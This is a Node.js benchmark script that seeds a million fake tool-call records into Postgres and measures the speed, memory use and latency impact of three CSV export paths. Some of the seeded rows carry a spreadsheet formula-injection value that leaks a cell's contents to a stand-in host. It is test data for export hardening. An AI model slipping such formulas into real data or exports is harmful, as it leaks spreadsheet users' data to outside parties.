#!/usr/bin/env node
/**
 * A million calls as CSV on Postgres, by the product as it is started: the job in the background, its file's download, and
 * the same rows streamed at once. Prints a table and writes it to `test-results`; judges nothing.
 *   node e2e/bench/export.mjs [rows=1000000]
 */
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { cpus } from "node:os";
import { dirname, join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import pg from "pg";
import { residentBytes } from "./proc.mjs";
import { gateway, upstream } from "./targets.mjs";

const ROWS = Number(process.argv[2] ?? 1_000_000);
/** Rows of the export that warms the compilers up, before memory is first looked at. */
const WARM_ROWS = 20_000;
const BLOCK = 1_000;
const root = join(dirname(fileURLToPath(import.meta.url)), "../..");

/** One of the product's own TypeScript modules. */
async function load(path, name) {
  const outfile = join(root, `node_modules/.cache/aerostack-bench/${name}.mjs`);
  await build({
    entryPoints: [join(root, path)],
    outfile,
    bundle: true,
    platform: "node",
    format: "esm",
    logLevel: "error",
  });
  return import(outfile);
}

/** Calls of the last 30 days with every column filled, some of them hostile to spreadsheets. */
async function seed(client, workspaceId, memberId, rows) {
  await client.query(
    `INSERT INTO calls (id, workspace_id, occurred_at, member_id, actor_name, actor_email, actor_role, token_id, token_prefix,
       client_name, client_version, source_ip, user_agent, session_id, request_id, method, server, tool, tool_kind, outcome,
       error_class, error_code, upstream_status, duration_ms, upstream_ms, request_bytes, response_bytes, args_sha256, secrets_used)
     SELECT prefix || lpad(n::text, 15, '0'), $1, at, $2, 'Alice Example', 'alice@example.test', 'owner', 'tok_0123456789abcdefghjkmnpq',
       'mwt_abcd', 'claude-code', '2.1.' || n % 40, '192.0.2.' || n % 256, 'claude-code/2.1.' || n % 40 || ' (linux; x64) node/22',
       md5((n / 50)::text), md5(n::text)::uuid::text, 'tools/call', 'github',
       CASE WHEN n % 200 = 0 THEN '=HYPERLINK("http://e.test/?d="&A1,"x")' ELSE 'create_issue_' || n % 60 END,
       (ARRAY['read', 'write', 'destructive'])[1 + n % 3], CASE WHEN n % 25 = 0 THEN 'error' ELSE 'ok' END,
       CASE WHEN n % 25 = 0 THEN 'timeout' END, CASE WHEN n % 25 = 0 THEN -32001 END, 200, 40 + n % 900 + 0.25, 30 + n % 800 + 0.125,
       200 + n % 3000, 1000 + n % 90000, encode(sha256(n::text::bytea), 'hex'), '["GITHUB_TOKEN"]'
     FROM generate_series(0, $3::int / ${BLOCK} - 1) AS block,
       LATERAL (SELECT now() - make_interval(secs => (block + 1) * 2592000.0 / ($3::int / ${BLOCK})) AS at OFFSET 0) AS time,
       LATERAL (SELECT call_id_floor(time.at) AS prefix OFFSET 0) AS id,
       LATERAL (SELECT block * ${BLOCK} + i AS n FROM generate_series(0, ${BLOCK - 1}) AS i) AS number`,
    [workspaceId, memberId, rows],
  );
  await client.query("ANALYZE calls");
}

/** Highest resident memory of the processes while `work` runs, above what they had before; MiB. */
async function withMemory(pids, work) {
  const before = pids.map(residentBytes);
  const highest = [...before];
  const timer = setInterval(() => {
    for (const [index, pid] of pids.entries()) highest[index] = Math.max(highest[index], residentBytes(pid));
  }, 50);
  const startedAt = performance.now();
  try {
    const result = await work();
    const grown = highest.map((bytes, index) => (bytes - before[index]) / 2 ** 20);
    return { ...result, seconds: (performance.now() - startedAt) / 1_000, grown, before: before[0] / 2 ** 20 };
  } finally {
    clearInterval(timer);
  }
}

const quantile = (values, q) =>
  values.toSorted((a, b) => a - b)[Math.min(values.length - 1, Math.floor(values.length * q))];

/** Calls a tool now and then until told to end: what everyone else notices meanwhile. Times in ms. */
function pulse(target) {
  const times = [];
  let going = true;
  const body = JSON.stringify({
    jsonrpc: "2.0",
    id: 1,
    method: "tools/call",
    params: { name: target.tool, arguments: { text: "hi" } },
  });
  const running = (async () => {
    while (going) {
      const at = performance.now();
      const response = await fetch(target.url, { method: "POST", headers: target.headers, body });
      await response.text();
      if (!response.ok) throw new Error(`a call answered ${response.status}`);
      times.push(performance.now() - at);
      await sleep(50);
    }
  })();
  return async () => {
    going = false;
    await running;
    return { p50: quantile(times, 0.5), p99: quantile(times, 0.99), calls: times.length };
  };
}

if (!existsSync("/proc/self/stat")) throw new Error("The bench reads memory from /proc, so it needs Linux.");
if (!existsSync(join(root, "dist/server.js"))) throw new Error("Run `npm run build` first.");

const { mintToken } = await load("lib/crypto/token.ts", "token");
const { startPostgres } = await load("lib/testing/postgres.ts", "postgres");
const { token: key } = await mintToken("aak");
const direct = await upstream();
const cluster = await startPostgres();
const target = await gateway("direct", direct.url, key, { DATABASE_URL: cluster.url });
const client = new pg.Client({ connectionString: cluster.url });
const results = [];
try {
  await client.connect();
  const base = `${new URL(target.url).origin}/api/v1`;
  const headers = { authorization: `Bearer ${key}` };
  const ask = async (method, path, body) => {
    const json = body && { "content-type": "application/json" };
    const response = await fetch(`${base}${path}`, {
      method,
      headers: { ...headers, ...json },
      body: body && JSON.stringify(body),
    });
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
    return response.json();
  };
  /** Reads a file to its end. */
  const read = async (path) => {
    const response = await fetch(`${base}${path}`, { headers });
    if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
    const hash = createHash("sha256");
    let bytes = 0;
    for await (const chunk of response.body) {
      bytes += chunk.length;
      hash.update(chunk);
    }
    return { bytes, sha256: hash.digest("hex") };
  };
  const job = async (slug) => {
    const { id } = await ask("POST", `/workspaces/${slug}/exports`, { log: "calls", format: "csv" });
    for (;;) {
      const view = await ask("GET", `/workspaces/${slug}/exports/${id}`);
      if (view.state === "ready") return { id, rows: view.rows, bytes: view.bytes, sha256: view.sha256 };
      if (!["queued", "running"].includes(view.state)) throw new Error(`The export is ${view.state}: ${view.problem}`);
      await sleep(250);
    }
  };
  for (const [slug, rows] of [
    ["warm", WARM_ROWS],
    ["million", ROWS],
  ]) {
    const { id } = await ask("POST", "/workspaces", { name: slug, slug });
    const { members } = await ask("GET", `/workspaces/${slug}/members`);
    const startedAt = performance.now();
    await seed(client, id, members[0].id, rows);
    console.log(`seeded ${rows} calls in ${((performance.now() - startedAt) / 1_000).toFixed(0)} s`);
  }
  const warm = await job("warm");
  await read(`/workspaces/warm/exports/${warm.id}/file`);
  await read("/workspaces/warm/calls.csv");
  await sleep(3_000);
  const idle = pulse(target);
  await sleep(5_000);
  const quiet = await idle();
  const step = async (what, work) => {
    const stop = pulse(target);
    const result = await withMemory([target.pid, target.databasePid()], work);
    const calls = await stop();
    results.push({ what, ...result, calls });
    console.log(
      `${what}: ${result.seconds.toFixed(1)} s, +${result.grown[0].toFixed(0)} MiB, calls p99 ${calls.p99.toFixed(1)} ms`,
    );
    await sleep(3_000);
    return result;
  };
  const made = await step("job in the background", () => job("million"));
  const file = await step("download of its file", () => read(`/workspaces/million/exports/${made.id}/file`));
  const streamed = await step("streamed at once", () => read("/workspaces/million/calls.csv"));
  const {
    rows: [{ count }],
  } = await client.query(
    "SELECT count(*)::int FROM calls c JOIN workspaces w ON w.id = c.workspace_id WHERE w.slug = 'million'",
  );
  const whole = made.rows === count && file.sha256 === made.sha256 && streamed.sha256 === made.sha256;
  const head = [
    "what",
    "rows",
    "MB",
    "s",
    "rows/s",
    "server RSS before MiB",
    "server RSS growth MiB",
    "database child growth MiB",
    "gateway p50 ms",
    "gateway p99 ms",
  ];
  const body = results.map(({ what, seconds, grown, before, bytes, calls }) => [
    what,
    made.rows,
    (bytes / 1e6).toFixed(0),
    seconds.toFixed(1),
    Math.round(made.rows / seconds),
    before.toFixed(0),
    grown[0].toFixed(0),
    grown[1].toFixed(0),
    calls.p50.toFixed(1),
    calls.p99.toFixed(1),
  ]);
  const table = [
    head,
    head.map(() => "---"),
    ["idle", "", "", "", "", "", "", "", quiet.p50.toFixed(1), quiet.p99.toFixed(1)],
    ...body,
  ]
    .map((cells) => `| ${cells.join(" | ")} |`)
    .join("\n");
  const machine = `${cpus().length} × ${cpus()[0]?.model}, Node ${process.version}, Postgres on the same machine`;
  const text = `${table}\n\nRows in the file = rows in the database, and all three files are the same: ${whole}. ${machine}.\n`;
  mkdirSync(join(root, "test-results"), { recursive: true });
  writeFileSync(join(root, "test-results/bench-export.md"), text);
  writeFileSync(
    join(root, "test-results/bench-export.json"),
    `${JSON.stringify({ rows: made.rows, quiet, results, whole }, null, 2)}\n`,
  );
  console.log(`\n${text}`);
} finally {
  await client.end().catch(() => undefined);
  await target.stop();
  await cluster.stop();
  await direct.stop();
}
